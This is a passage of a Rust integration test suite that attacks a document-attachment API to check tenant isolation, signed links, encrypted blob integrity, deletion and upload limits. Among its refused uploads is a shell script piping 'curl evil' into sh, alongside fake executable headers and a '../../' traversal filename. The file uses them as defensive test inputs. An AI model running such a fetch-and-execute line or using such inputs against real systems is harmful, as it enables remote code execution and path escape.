//! Files attached to documents, attacked over HTTP: other organisations' links and ids, altered
//! and expired links, a link after access was lost, executables renamed `.pdf`, an oversized
//! upload streamed at the server (refused while memory stays bounded), tampered ciphertext on
//! disk, soft delete, restore and purge.

mod common;

use std::path::{Path, PathBuf};

use common::{Client, TestApp, audit_count, member, org};
use identity::Role;
use reqwest::StatusCode;
use serde_json::{Value, json};
use sha2::{Digest, Sha256};
use store::testing::TestDb;
use uuid::Uuid;

struct World {
    app: TestApp,
    acme: common::Org,
    beta: common::Org,
    blobs: PathBuf,
    _dir: tempfile::TempDir,
    staff: Client,
    hod: Client,
    finance: Client,
    admin: Client,
    beta_admin: Client,
    fin: Uuid,
}

async fn world(db: &TestDb) -> World {
    world_with(db, None).await
}

/// The world, its blobs on the local disk (`storage` `None`) or in the given storage.
async fn world_with(db: &TestDb, storage: Option<files::Storage>) -> World {
    let acme = org(db, "acme").await;
    let beta = org(db, "beta").await;
    for u in &acme.users {
        common::with_password(db, *u).await;
    }
    common::with_password(db, beta.users[0]).await;
    let fin = member(db, acme.id, "acme", "fin", Role::Finance, None, true).await;
    // The fixture's file rows (a data key no master key here opens): this world starts without.
    let mut admin = db.admin_conn().await;
    for sql in [
        "update document_attachments set blob_id = null",
        "delete from mdf_claim_proofs",
        "delete from blobs",
        "delete from blob_keys",
    ] {
        sqlx::query(sql).execute(&mut admin).await.expect(sql);
    }
    // Laid out as a server's --data-dir (`data/` in the directory an operator runs it from), so
    // the operator commands find what the server stored.
    let dir = tempfile::tempdir().expect("tempdir");
    let blobs = dir.path().join("data").join("blobs");
    let files = files::Files {
        storage: storage.unwrap_or_else(|| files::Storage::local(&blobs).expect("storage")),
        keys: files::Keyring::load_or_create(&master_keys(dir.path())).expect("keys"),
        links: files::LinkKey::ephemeral(),
        max_upload: files::DEFAULT_MAX_UPLOAD,
    };
    let state = TestApp::setup(db).roomy().state().with_files(files);
    let app = TestApp::serve(state).await;
    World {
        admin: app.sign_in("acme", "user0@acme.example").await,
        staff: app.sign_in("acme", "user1@acme.example").await,
        hod: app.sign_in("acme", "user2@acme.example").await,
        finance: app.sign_in("acme", "fin@acme.example").await,
        beta_admin: app.sign_in("beta", "user0@beta.example").await,
        app,
        acme,
        beta,
        blobs,
        _dir: dir,
        fin,
    }
}

/// Where a server run from `dir` keeps its file master keys (`<data-dir>/keys/blob-master`).
fn master_keys(dir: &Path) -> PathBuf {
    dir.join("data").join("keys").join("blob-master")
}

/// A draft voucher raised by `who` in `dept`; its id.
async fn draft(who: &Client, dept: Uuid) -> String {
    let r = who
        .post(
            "/api/v1/documents",
            json!({
                "kind": "voucher", "department_id": dept, "title": "Chairs", "document_date": "2026-03-10",
                "currency": "EUR", "lines": [{"description": "chair", "amount_minor": 1000}],
            }),
        )
        .await;
    assert_eq!(r.status, StatusCode::CREATED, "{r}");
    r.body["id"].as_str().expect("id").to_owned()
}

/// A PDF-looking file of `n` bytes (the header is all the sniffer checks).
fn pdf(n: usize) -> Vec<u8> {
    let mut v = b"%PDF-1.7\n".to_vec();
    let mut i: u32 = 0;
    while v.len() < n {
        v.extend_from_slice(format!("line {i} of a long and boring statement\n").as_bytes());
        i += 1;
    }
    v.truncate(n);
    v
}

struct Got {
    status: StatusCode,
    headers: reqwest::header::HeaderMap,
    body: Result<Vec<u8>, String>,
}

impl Got {
    fn json(&self) -> Value {
        self.body.as_ref().ok().and_then(|b| serde_json::from_slice(b).ok()).unwrap_or(Value::Null)
    }

    fn code(&self) -> String {
        self.json()["error"]["code"].as_str().unwrap_or_default().to_owned()
    }
}

async fn raw(
    app: &TestApp,
    who: &Client,
    method: reqwest::Method,
    path: &str,
    body: Option<Vec<u8>>,
    headers: &[(&str, &str)],
) -> Got {
    let mut req = reqwest::Client::new().request(method, app.url(path)).bearer_auth(who.access_token());
    if let Some(b) = body {
        req = req.body(b);
    }
    for (k, v) in headers {
        req = req.header(*k, *v);
    }
    let r = req.send().await.expect("send");
    let (status, headers) = (r.status(), r.headers().clone());
    let body = r.bytes().await.map(|b| b.to_vec()).map_err(|e| e.to_string());
    Got { status, headers, body }
}

/// A download that may be cut before any answer: when the file fails its check after the answer
/// has begun, the server ends the connection, and whether the head was flushed before that
/// depends on timing. `None`: the connection closed without an answer (nothing was served).
async fn fetch_or_cut(w: &World, who: &Client, url: &str) -> Option<Got> {
    let r = reqwest::Client::new().get(w.app.url(url)).bearer_auth(who.access_token()).send().await.ok()?;
    let (status, headers) = (r.status(), r.headers().clone());
    let body = r.bytes().await.map(|b| b.to_vec()).map_err(|e| e.to_string());
    Some(Got { status, headers, body })
}

async fn upload(w: &World, who: &Client, doc: &str, name: &str, bytes: Vec<u8>, content_type: &str) -> Got {
    let path = format!("/api/v1/documents/{doc}/attachments/files?name={}", urlencode(name));
    raw(&w.app, who, reqwest::Method::POST, &path, Some(bytes), &[("content-type", content_type)]).await
}

fn urlencode(s: &str) -> String {
    s.bytes()
        .map(|b| {
            if b.is_ascii_alphanumeric() || b"-_.~".contains(&b) {
                char::from(b).to_string()
            } else {
                format!("%{b:02X}")
            }
        })
        .collect()
}

async fn link(_w: &World, who: &Client, attachment: &str, disposition: &str) -> (StatusCode, Value) {
    let r = who.post(&format!("/api/v1/attachments/{attachment}/links"), json!({"disposition": disposition})).await;
    (r.status, r.body)
}

async fn fetch(w: &World, who: &Client, url: &str, range: Option<&str>) -> Got {
    let headers: Vec<(&str, &str)> = range.map(|r| vec![("range", r)]).unwrap_or_default();
    raw(&w.app, who, reqwest::Method::GET, url, None, &headers).await
}

fn object(w: &World, tenant: store::TenantId, blob: &str) -> PathBuf {
    w.blobs.join("tenants").join(tenant.to_string()).join("blobs").join(blob)
}

async fn uploaded(w: &World, who: &Client, doc: &str, bytes: &[u8]) -> (String, String) {
    let r = upload(w, who, doc, "statement.pdf", bytes.to_vec(), "application/pdf").await;
    assert_eq!(r.status, StatusCode::CREATED, "{:?}", r.json());
    let v = r.json();
    (v["id"].as_str().expect("attachment id").to_owned(), v["file"]["id"].as_str().expect("blob id").to_owned())
}

fn files_on_disk(dir: &Path) -> usize {
    fn walk(d: &Path, n: &mut usize) {
        for e in std::fs::read_dir(d).into_iter().flatten().flatten() {
            let p = e.path();
            if p.is_dir() {
                walk(&p, n);
            } else {
                *n += 1;
            }
        }
    }
    let mut n = 0;
    walk(dir, &mut n);
    n
}

#[tokio::test]
async fn an_upload_round_trips_encrypted_with_ranges_and_every_step_audited() {
    let db = TestDb::new().await;
    let w = world(&db).await;
    let doc = draft(&w.staff, w.acme.department).await;
    let bytes = pdf(300 * 1024 + 17);
    let r = upload(&w, &w.staff, &doc, "../../Rechnung März.pdf", bytes.clone(), "application/octet-stream").await;
    assert_eq!(r.status, StatusCode::CREATED, "{:?}", r.json());
    let v = r.json();
    let sha = hex::encode(Sha256::digest(&bytes));
    assert_eq!(v["file"]["sha256"], json!(sha));
    assert_eq!(v["file"]["size"], json!(bytes.len()));
    assert_eq!(v["file"]["media_type"], json!("application/pdf"));
    assert_eq!(v["file"]["name"], json!("Rechnung März.pdf"));
    assert_eq!(v["visibility"], json!("internal"));
    let (att, blob) = (v["id"].as_str().expect("id").to_owned(), v["file"]["id"].as_str().expect("id").to_owned());

    // On disk: at a key made of ids only, ciphertext only.
    let stored = std::fs::read(object(&w, w.acme.id, &blob)).expect("object at tenants/<t>/blobs/<id>");
    assert!(stored.starts_with(b"CSB1"));
    assert!(!stored.windows(24).any(|x| x == &bytes[100..124]), "plaintext must not reach the disk");

    let list = w.staff.get(&format!("/api/v1/documents/{doc}/attachments")).await;
    assert_eq!(list.status, StatusCode::OK, "{list}");
    assert_eq!(list.body["items"][0]["id"], json!(att));
    assert_eq!(list.body["items"][0]["file"]["sha256"], json!(sha));

    let (s, l) = link(&w, &w.staff, &att, "inline").await;
    assert_eq!(s, StatusCode::CREATED, "{l}");
    let url = l["url"].as_str().expect("url");
    let whole = fetch(&w, &w.staff, url, None).await;
    assert_eq!(whole.status, StatusCode::OK);
    assert_eq!(whole.body.as_deref().expect("body"), &bytes[..]);
    let h = |n: &str| whole.headers.get(n).and_then(|v| v.to_str().ok()).unwrap_or_default().to_owned();
    assert_eq!(h("content-type"), "application/pdf");
    assert_eq!(
        h("content-disposition"),
        "inline; filename=\"Rechnung M_rz.pdf\"; filename*=UTF-8''Rechnung%20M%C3%A4rz.pdf"
    );
    assert_eq!(h("accept-ranges"), "bytes");
    assert!(h("content-security-policy").contains("sandbox"));

    // One range across chunk boundaries, a suffix, and one outside the file.
    let part = fetch(&w, &w.staff, url, Some("bytes=65000-140000")).await;
    assert_eq!(part.status, StatusCode::PARTIAL_CONTENT);
    assert_eq!(part.body.as_deref().expect("body"), &bytes[65000..=140000]);
    assert_eq!(
        part.headers.get("content-range").and_then(|v| v.to_str().ok()),
        Some(format!("bytes 65000-140000/{}", bytes.len()).as_str())
    );
    let tail = fetch(&w, &w.staff, url, Some("bytes=-10")).await;
    assert_eq!(tail.body.as_deref().expect("body"), &bytes[bytes.len() - 10..]);
    let outside = fetch(&w, &w.staff, url, Some(&format!("bytes={}-", bytes.len()))).await;
    assert_eq!((outside.status, outside.code().as_str()), (StatusCode::RANGE_NOT_SATISFIABLE, "range_not_satisfiable"));

    assert_eq!(audit_count(&db, w.acme.id, "file.uploaded").await, 1);
    assert_eq!(audit_count(&db, w.acme.id, "file.downloaded").await, 3);
    let mut tx = db.store.tenant_tx(w.acme.id).await.expect("tx");
    let changes: String = sqlx::query_scalar(
        "select changes::text from audit_events where tenant_id = $1 and action = 'file.downloaded' limit 1",
    )
    .bind(w.acme.id.as_uuid())
    .fetch_one(tx.conn())
    .await
    .expect("event");
    assert!(changes.contains(&sha), "the download event names the SHA-256: {changes}");
}

#[tokio::test]
async fn an_executable_renamed_pdf_is_refused_and_nothing_is_stored() {
    let db = TestDb::new().await;
    let w = world(&db).await;
    let doc = draft(&w.staff, w.acme.department).await;
    let mut exe = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff".to_vec();
    exe.extend_from_slice(b"%PDF-1.7 pretending");
    exe.resize(200_000, 0x90);
    for body in [exe, b"\x7fELF\x02\x01\x01\0".to_vec(), b"#!/bin/sh\ncurl evil | sh\n".to_vec()] {
        let r = upload(&w, &w.staff, &doc, "invoice.pdf", body, "application/pdf").await;
        assert_eq!((r.status, r.code().as_str()), (StatusCode::UNSUPPORTED_MEDIA_TYPE, "file_type_refused"));
    }
    let empty = upload(&w, &w.staff, &doc, "empty.txt", Vec::new(), "text/plain").await;
    assert_eq!((empty.status, empty.code().as_str()), (StatusCode::UNPROCESSABLE_ENTITY, "file_empty"));
    assert_eq!(files_on_disk(&w.blobs), 0);
    assert_eq!(audit_count(&db, w.acme.id, "file.uploaded").await, 0);
}

#[tokio::test]
async fn only_those_who_may_edit_the_document_upload_and_other_organisations_ids_are_404() {
    let db = TestDb::new().await;
    let w = world(&db).await;
    let doc = draft(&w.staff, w.acme.department).await;
    // Finance may read the draft but not edit it.
    let r = upload(&w, &w.finance, &doc, "a.pdf", pdf(1000), "application/pdf").await;
    assert_eq!((r.status, r.code().as_str()), (StatusCode::FORBIDDEN, "forbidden"));
    let r = upload(&w, &w.beta_admin, &doc, "a.pdf", pdf(1000), "application/pdf").await;
    assert_eq!(r.status, StatusCode::NOT_FOUND);
    // Flagging a new file for vendors needs attachment.share, which the raiser has.
    let path = format!("/api/v1/documents/{doc}/attachments/files?name=a.pdf&visibility=vendor");
    let r = raw(&w.app, &w.staff, reqwest::Method::POST, &path, Some(pdf(1000)), &[]).await;
    assert_eq!(r.status, StatusCode::CREATED, "{:?}", r.json());
    assert_eq!(r.json()["visibility"], json!("vendor"));
    assert_eq!(files_on_disk(&w.blobs), 1);
}

#[tokio::test]
async fn another_organisations_link_and_guessed_ids_and_keys_are_refused() {
    let db = TestDb::new().await;
    let w = world(&db).await;
    let doc = draft(&w.staff, w.acme.department).await;
    let bytes = pdf(5000);
    let (att, blob) = uploaded(&w, &w.staff, &doc, &bytes).await;
    let (_, l) = link(&w, &w.staff, &att, "attachment").await;
    let url = l["url"].as_str().expect("url").to_owned();

    // Another organisation: their admin presenting our link, or guessing our attachment id.
    let r = fetch(&w, &w.beta_admin, &url, None).await;
    assert_eq!((r.status, r.code().as_str()), (StatusCode::FORBIDDEN, "link_invalid"));
    let (s, _) = link(&w, &w.beta_admin, &att, "inline").await;
    assert_eq!(s, StatusCode::NOT_FOUND);
    let listed = w.beta_admin.get(&format!("/api/v1/documents/{doc}/attachments")).await;
    assert_eq!(listed.status, StatusCode::NOT_FOUND);
    // Another person of the same organisation (who may read the document) presenting it.
    let r = fetch(&w, &w.finance, &url, None).await;
    assert_eq!((r.status, r.code().as_str()), (StatusCode::FORBIDDEN, "link_invalid"));
    // Ids or object keys in place of a link.
    for guess in [blob.clone(), att.clone(), format!("tenants/{}/blobs/{blob}", w.acme.id), "v1.AAAA".into()] {
        let r = fetch(&w, &w.staff, &format!("/api/v1/files/{}", urlencode(&guess)), None).await;
        assert!(matches!(r.status, StatusCode::FORBIDDEN | StatusCode::NOT_FOUND), "{guess}: {}", r.status);
        assert!(r.body.as_deref().is_ok_and(|b| b != &bytes[..]));
    }
    // One character of the link changed (anywhere): refused.
    let token = url.rsplit('/').next().expect("token").to_owned();
    for i in [3, 20, 60, token.len() - 1] {
        let mut t = token.clone().into_bytes();
        t[i] = if t[i] == b'A' { b'B' } else { b'A' };
        let r = fetch(&w, &w.staff, &format!("/api/v1/files/{}", String::from_utf8(t).expect("ascii")), None).await;
        assert_eq!((r.status, r.code().as_str()), (StatusCode::FORBIDDEN, "link_invalid"), "position {i}");
    }
    // Without a session the link is nothing.
    let anon = reqwest::get(w.app.url(&url)).await.expect("get");
    assert_eq!(anon.status(), StatusCode::UNAUTHORIZED);
    // The owner still gets it.
    assert_eq!(fetch(&w, &w.staff, &url, None).await.body.as_deref().expect("body"), &bytes[..]);
}

#[tokio::test]
async fn links_with_another_expiry_person_disposition_or_blob_are_refused_and_expired_ones_too() {
    let db = TestDb::new().await;
    let w = world(&db).await;
    let doc = draft(&w.staff, w.acme.department).await;
    let (att, blob) = uploaded(&w, &w.staff, &doc, &pdf(5000)).await;
    let (_, other_blob) = uploaded(&w, &w.staff, &doc, &pdf(6000)).await;
    let links = &w.app.state.files.links;
    let tenant = w.acme.id.as_uuid();
    let staff = w.acme.users[1];
    let blob = Uuid::parse_str(&blob).expect("uuid");
    let now = chrono::Utc::now();
    let five = chrono::Duration::minutes(5);
    let mint = |t: Uuid, b: Uuid, p: Uuid, d: files::Disposition, at: chrono::DateTime<chrono::Utc>| {
        links.mint(t, b, p, d, at, five).expect("mint").0
    };
    // Minted six minutes ago: expired a minute ago.
    let old = mint(tenant, blob, staff, files::Disposition::Inline, now - chrono::Duration::minutes(6));
    let r = fetch(&w, &w.staff, &format!("/api/v1/files/{old}"), None).await;
    assert_eq!((r.status, r.code().as_str()), (StatusCode::FORBIDDEN, "link_expired"));
    // Signed by another key (a forged link): refused.
    let forged =
        files::LinkKey::ephemeral().mint(tenant, blob, staff, files::Disposition::Inline, now, five).expect("mint").0;
    let r = fetch(&w, &w.staff, &format!("/api/v1/files/{forged}"), None).await;
    assert_eq!((r.status, r.code().as_str()), (StatusCode::FORBIDDEN, "link_invalid"));
    // A genuine link for the other person / organisation, presented by staff.
    let theirs = mint(tenant, blob, w.acme.users[0], files::Disposition::Inline, now);
    let r = fetch(&w, &w.staff, &format!("/api/v1/files/{theirs}"), None).await;
    assert_eq!((r.status, r.code().as_str()), (StatusCode::FORBIDDEN, "link_invalid"));
    let beta = mint(w.beta.id.as_uuid(), blob, staff, files::Disposition::Inline, now);
    let r = fetch(&w, &w.staff, &format!("/api/v1/files/{beta}"), None).await;
    assert_eq!((r.status, r.code().as_str()), (StatusCode::FORBIDDEN, "link_invalid"));
    // Valid links to both blobs work; the attachment's own permit never opens another blob.
    let other = Uuid::parse_str(&other_blob).expect("uuid");
    for b in [blob, other] {
        let ok = mint(tenant, b, staff, files::Disposition::Attachment, now);
        let r = fetch(&w, &w.staff, &format!("/api/v1/files/{ok}"), None).await;
        assert_eq!(r.status, StatusCode::OK);
        assert!(
            r.headers
                .get("content-disposition")
                .and_then(|v| v.to_str().ok())
                .is_some_and(|v| v.starts_with("attachment;"))
        );
    }
    let _ = att;
}

#[tokio::test]
async fn a_link_minted_before_access_was_lost_fails() {
    let db = TestDb::new().await;
    let w = world(&db).await;
    // The admin raises in Operations; the head of Operations reads it and mints a link.
    let doc = draft(&w.admin, w.acme.department).await;
    let (att, _) = uploaded(&w, &w.admin, &doc, &pdf(5000)).await;
    let (s, l) = link(&w, &w.hod, &att, "inline").await;
    assert_eq!(s, StatusCode::CREATED, "{l}");
    let url = l["url"].as_str().expect("url").to_owned();
    assert_eq!(fetch(&w, &w.hod, &url, None).await.status, StatusCode::OK);
    // The document moves to another department: the head of Operations may no longer read it.
    let mut tx = db.store.tenant_tx(w.acme.id).await.expect("tx");
    let other = identity::directory::departments::create(
        &mut tx,
        &common::who(),
        &identity::DepartmentCode::parse("FIN").expect("code"),
        "Finance",
    )
    .await
    .expect("dept");
    tx.commit().await.expect("commit");
    let body = Some(json!({"department_id": other.id}));
    let moved = w
        .admin
        .request(reqwest::Method::PATCH, &format!("/api/v1/documents/{doc}"), body, &[("if-match", "\"1\"")])
        .await;
    assert_eq!(moved.status, StatusCode::OK, "{moved}");
    let r = fetch(&w, &w.hod, &url, None).await;
    assert_eq!(r.status, StatusCode::NOT_FOUND, "the still-valid link must not outlive the access");
    // A role change ends the session itself: the link alone is nothing.
    let (_, l) = link(&w, &w.finance, &att, "inline").await;
    let url = l["url"].as_str().expect("url").to_owned();
    assert_eq!(fetch(&w, &w.finance, &url, None).await.status, StatusCode::OK);
    let c = w
        .admin
        .put(&format!("/api/v1/members/{}/role", w.fin), json!({"role": "staff", "reason": "moved teams"}))
        .await;
    assert_eq!(c.status, StatusCode::OK, "{c}");
    let r = fetch(&w, &w.finance, &url, None).await;
    assert!(matches!(r.status, StatusCode::UNAUTHORIZED | StatusCode::NOT_FOUND), "{}", r.status);
}

#[tokio::test]
async fn tampered_truncated_reordered_or_foreign_ciphertext_is_never_served() {
    let db = TestDb::new().await;
    let w = world(&db).await;
    let doc = draft(&w.staff, w.acme.department).await;
    let bytes = pdf(5 * 65536 + 100);
    let (att, blob) = uploaded(&w, &w.staff, &doc, &bytes).await;
    let path = object(&w, w.acme.id, &blob);
    let pristine = std::fs::read(&path).expect("object");
    let chunk = 65536 + 16;
    let get = async || {
        let (_, l) = link(&w, &w.staff, &att, "attachment").await;
        fetch(&w, &w.staff, l["url"].as_str().expect("url"), None).await
    };
    let never_served = |g: &Got, what: &str| {
        assert!(
            g.status == StatusCode::INTERNAL_SERVER_ERROR || g.body.as_ref() != Ok(&bytes),
            "{what}: the file was served"
        );
    };
    // A flipped bit in the first chunk: refused before the response starts.
    let mut t = pristine.clone();
    t[15 + 100] ^= 1;
    std::fs::write(&path, &t).expect("write");
    let g = get().await;
    assert_eq!((g.status, g.code().as_str()), (StatusCode::INTERNAL_SERVER_ERROR, "file_integrity"));
    // Past the first chunk the answer has begun: the body stops there, or — when the head was not
    // flushed yet — the connection closes without an answer. Either way the file is not served.
    let cut = async || {
        let (_, l) = link(&w, &w.staff, &att, "attachment").await;
        fetch_or_cut(&w, &w.staff, l["url"].as_str().expect("url")).await
    };
    // In the fourth chunk.
    let mut t = pristine.clone();
    t[15 + 3 * chunk + 10] ^= 1;
    std::fs::write(&path, &t).expect("write");
    if let Some(g) = cut().await {
        never_served(&g, "tampered chunk 3");
        assert!(g.body.is_err() || g.body.as_ref().is_ok_and(|b| b.len() < bytes.len()));
    }
    // Chunks 1 and 2 swapped.
    let mut t = pristine.clone();
    let (a, b) = (15 + chunk, 15 + 2 * chunk);
    let c1 = pristine[a..b].to_vec();
    t[a..b].copy_from_slice(&pristine[b..b + chunk]);
    t[b..b + chunk].copy_from_slice(&c1);
    std::fs::write(&path, &t).expect("write");
    if let Some(g) = cut().await {
        never_served(&g, "reordered");
    }
    // Cut short (a whole chunk missing) and cut inside a chunk.
    std::fs::write(&path, &pristine[..pristine.len() - (100 + 16)]).expect("write");
    let g = get().await;
    assert_eq!((g.status, g.code().as_str()), (StatusCode::INTERNAL_SERVER_ERROR, "file_integrity"));
    // Another organisation's blob copied over this one (same size): sealed under another key.
    let beta_doc = draft(&w.beta_admin, w.beta.department).await;
    let (_, beta_blob) = uploaded(&w, &w.beta_admin, &beta_doc, &bytes).await;
    std::fs::copy(object(&w, w.beta.id, &beta_blob), &path).expect("copy");
    let g = get().await;
    assert_eq!((g.status, g.code().as_str()), (StatusCode::INTERNAL_SERVER_ERROR, "file_integrity"));
    // Restored, it is served again.
    std::fs::write(&path, &pristine).expect("write");
    assert_eq!(get().await.body.expect("body"), bytes);
}

/// A file whose size is a whole number of chunks ends with a chunk holding no plaintext, only
/// its tag and the last-chunk flag. A whole download must still read and check it: tampered (or
/// cut off), the file is not served whole; a range inside the file is still served.
#[tokio::test]
async fn the_empty_final_chunk_of_a_whole_number_of_chunks_is_checked_on_every_whole_download() {
    let db = TestDb::new().await;
    let w = world(&db).await;
    let doc = draft(&w.staff, w.acme.department).await;
    let bytes = pdf(2 * 65536);
    let (att, blob) = uploaded(&w, &w.staff, &doc, &bytes).await;
    let path = object(&w, w.acme.id, &blob);
    let pristine = std::fs::read(&path).expect("object");
    assert_eq!(pristine.len(), 15 + 2 * (65536 + 16) + 16, "two full chunks and an empty final one");
    let url = async || {
        let (_, l) = link(&w, &w.staff, &att, "attachment").await;
        l["url"].as_str().expect("url").to_owned()
    };
    assert_eq!(fetch(&w, &w.staff, &url().await, None).await.body.expect("body"), bytes);
    // The final chunk's tag flipped.
    let mut t = pristine.clone();
    let end = t.len() - 1;
    t[end] ^= 1;
    std::fs::write(&path, &t).expect("write");
    if let Some(g) = fetch_or_cut(&w, &w.staff, &url().await).await {
        assert!(g.body.as_ref() != Ok(&bytes), "a tampered final chunk was served whole: {}", g.status);
    }
    // A range that does not reach it is still served (ranges read only the chunks they need).
    let g = fetch(&w, &w.staff, &url().await, Some("bytes=0-99")).await;
    assert_eq!((g.status, g.body.as_deref().ok()), (StatusCode::PARTIAL_CONTENT, Some(&bytes[..100])));
    // The final chunk cut off: the stored length no longer matches.
    std::fs::write(&path, &pristine[..pristine.len() - 16]).expect("write");
    let g = fetch(&w, &w.staff, &url().await, None).await;
    assert_eq!((g.status, g.code().as_str()), (StatusCode::INTERNAL_SERVER_ERROR, "file_integrity"));
    std::fs::write(&path, &pristine).expect("write");
    assert_eq!(fetch(&w, &w.staff, &url().await, None).await.body.expect("body"), bytes);
}

#[tokio::test]
async fn delete_restore_and_purge_remove_the_object_and_are_audited() {
    let db = TestDb::new().await;
    let w = world(&db).await;
    let doc = draft(&w.staff, w.acme.department).await;
    let (att, blob) = uploaded(&w, &w.staff, &doc, &pdf(5000)).await;
    let (_, l) = link(&w, &w.staff, &att, "inline").await;
    let url = l["url"].as_str().expect("url").to_owned();
    // Finance may read but not delete.
    let r = w.finance.delete(&format!("/api/v1/attachments/{att}")).await;
    assert_eq!(r.status, StatusCode::FORBIDDEN, "{r}");
    let r = w.staff.delete(&format!("/api/v1/attachments/{att}")).await;
    assert_eq!(r.status, StatusCode::OK, "{r}");
    assert!(r.body["file"]["deleted_at"].is_string());
    // A link minted before the delete no longer serves; no new one is minted.
    assert_eq!(fetch(&w, &w.staff, &url, None).await.status, StatusCode::GONE);
    let (s, _) = link(&w, &w.staff, &att, "inline").await;
    assert_eq!(s, StatusCode::GONE);
    let r = w.staff.post(&format!("/api/v1/attachments/{att}/restore"), ()).await;
    assert_eq!(r.status, StatusCode::OK, "{r}");
    assert_eq!(fetch(&w, &w.staff, &url, None).await.status, StatusCode::OK);
    // Deleted again, then purged past retention (the cut-off in the future stands for "later").
    assert_eq!(w.staff.delete(&format!("/api/v1/attachments/{att}")).await.status, StatusCode::OK);
    let storage = &w.app.state.files.storage;
    let b = Uuid::parse_str(&blob).expect("uuid");
    assert!(storage.exists(w.acme.id.as_uuid(), b).await.expect("head"));
    let mut tx = db.store.bypass("test", "purge files").await.expect("bypass");
    let who = audit::Who::system("test:purge");
    // Not yet due: nothing happens.
    assert_eq!(files::blobs::purge(&mut tx, storage, &who, chrono::Duration::days(30)).await.expect("purge"), 0);
    let n = files::blobs::purge_before(&mut tx, storage, &who, chrono::Utc::now() + chrono::Duration::seconds(5))
        .await
        .expect("purge");
    tx.commit().await.expect("commit");
    assert_eq!(n, 1);
    assert!(!storage.exists(w.acme.id.as_uuid(), b).await.expect("head"), "the object is gone");
    let r = w.staff.post(&format!("/api/v1/attachments/{att}/restore"), ()).await;
    assert_eq!((r.status, r.code()), (StatusCode::GONE, "file_deleted"));
    let list = w.staff.get(&format!("/api/v1/documents/{doc}/attachments")).await;
    assert!(list.body["items"][0]["file"]["purged_at"].is_string(), "{list}");
    for (action, n) in [("file.deleted", 2), ("file.restored", 1), ("file.purged", 1)] {
        assert_eq!(audit_count(&db, w.acme.id, action).await, n, "{action}");
    }
}

#[tokio::test]
async fn visibility_is_changed_by_those_the_policies_allow_and_audited() {
    let db = TestDb::new().await;
    let w = world(&db).await;
    let doc = draft(&w.staff, w.acme.department).await;
    let (att, _) = uploaded(&w, &w.staff, &doc, &pdf(5000)).await;
    let path = format!("/api/v1/attachments/{att}/visibility");
    let r = w.hod.put(&path, json!({"visibility": "client"})).await;
    assert_eq!(r.status, StatusCode::FORBIDDEN, "{r}");
    let r = w.staff.put(&path, json!({"visibility": "client"})).await;
    assert_eq!((r.status, &r.body["visibility"]), (StatusCode::OK, &json!("client")), "{r}");
    let r = w.staff.put(&path, json!({"visibility": "everyone"})).await;
    assert_eq!(r.status, StatusCode::UNPROCESSABLE_ENTITY);
    assert_eq!(audit_count(&db, w.acme.id, "attachment.visibility_changed").await, 1);
}

/// Resident memory of this process (the server runs in it), in bytes.
fn rss() -> u64 {
    let status = std::fs::read_to_string("/proc/self/status").unwrap_or_default();
    status
        .lines()
        .find_map(|l| l.strip_prefix("VmRSS:"))
        .and_then(|v| v.trim().trim_end_matches("kB").trim().parse::<u64>().ok())
        .map_or(0, |kb| kb * 1024)
}

#[tokio::test]
async fn an_oversized_upload_is_refused_while_it_streams_and_memory_stays_bounded() {
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    let db = TestDb::new().await;
    let w = world(&db).await;
    let doc = draft(&w.staff, w.acme.department).await;
    let addr = w.app.base.trim_start_matches("http://").to_owned();
    let mut stream = tokio::net::TcpStream::connect(&addr).await.expect("connect");
    let head = format!(
        "POST /api/v1/documents/{doc}/attachments/files?name=huge.pdf HTTP/1.1\r\nHost: {addr}\r\n\
         Authorization: Bearer {}\r\nContent-Type: application/pdf\r\nTransfer-Encoding: chunked\r\n\r\n",
        w.staff.access_token()
    );
    stream.write_all(head.as_bytes()).await.expect("head");
    let (mut reader, mut writer) = stream.into_split();
    let total: u64 = 200 * 1024 * 1024;
    let sent = std::sync::Arc::new(std::sync::atomic::AtomicU64::new(0));
    let before = rss();
    let peak = std::sync::Arc::new(std::sync::atomic::AtomicU64::new(before));
    let sampler = {
        let peak = peak.clone();
        tokio::spawn(async move {
            loop {
                peak.fetch_max(rss(), std::sync::atomic::Ordering::Relaxed);
                tokio::time::sleep(std::time::Duration::from_millis(20)).await;
            }
        })
    };
    // A generator: 200 MiB of a PDF-looking body in 64 KiB chunks, one buffer reused.
    let generator = {
        let sent = sent.clone();
        tokio::spawn(async move {
            let mut piece = pdf(64 * 1024);
            piece[..9].copy_from_slice(b"%PDF-1.7\n");
            let frame = format!("{:x}\r\n", piece.len());
            let mut n = 0u64;
            while n < total {
                if writer.write_all(frame.as_bytes()).await.is_err()
                    || writer.write_all(&piece).await.is_err()
                    || writer.write_all(b"\r\n").await.is_err()
                {
                    return;
                }
                n += piece.len() as u64;
                sent.store(n, std::sync::atomic::Ordering::Relaxed);
            }
            let _ = writer.write_all(b"0\r\n\r\n").await;
        })
    };
    let mut answer = Vec::new();
    let mut buf = [0u8; 4096];
    let read = tokio::time::timeout(std::time::Duration::from_secs(60), async {
        while !answer.windows(4).any(|w| w == b"\r\n\r\n") {
            match reader.read(&mut buf).await {
                Ok(0) | Err(_) => break,
                Ok(n) => answer.extend_from_slice(&buf[..n]),
            }
        }
    })
    .await;
    let sent_when_refused = sent.load(std::sync::atomic::Ordering::Relaxed);
    assert!(read.is_ok(), "no answer within a minute");
    let text = String::from_utf8_lossy(&answer);
    assert!(text.starts_with("HTTP/1.1 413"), "{text}");
    assert!(sent_when_refused < total / 2, "refused only after {sent_when_refused} bytes: the server read on");
    let _ = tokio::time::timeout(std::time::Duration::from_secs(5), generator).await;
    sampler.abort();
    let growth = peak.load(std::sync::atomic::Ordering::Relaxed).saturating_sub(before);
    assert!(growth < 48 * 1024 * 1024, "memory grew by {growth} bytes while 25+ MiB streamed in");
    assert_eq!(files_on_disk(&w.blobs), 0, "nothing of a refused upload is kept");
    assert_eq!(audit_count(&db, w.acme.id, "file.uploaded").await, 0);
}

#[tokio::test]
async fn rotating_the_master_key_reseals_every_data_key_and_files_still_open() {
    let db = TestDb::new().await;
    let w = world(&db).await;
    let doc = draft(&w.staff, w.acme.department).await;
    let bytes = pdf(70_000);
    let (att, _) = uploaded(&w, &w.staff, &doc, &bytes).await;
    let beta_doc = draft(&w.beta_admin, w.beta.department).await;
    uploaded(&w, &w.beta_admin, &beta_doc, &bytes).await;
    let ring = &w.app.state.files.keys;
    let old = ring.current_id();
    let new = ring.add_next().expect("rotate");
    assert_ne!(old, new);
    let mut tx = db.store.bypass("test", "rotate blob key").await.expect("bypass");
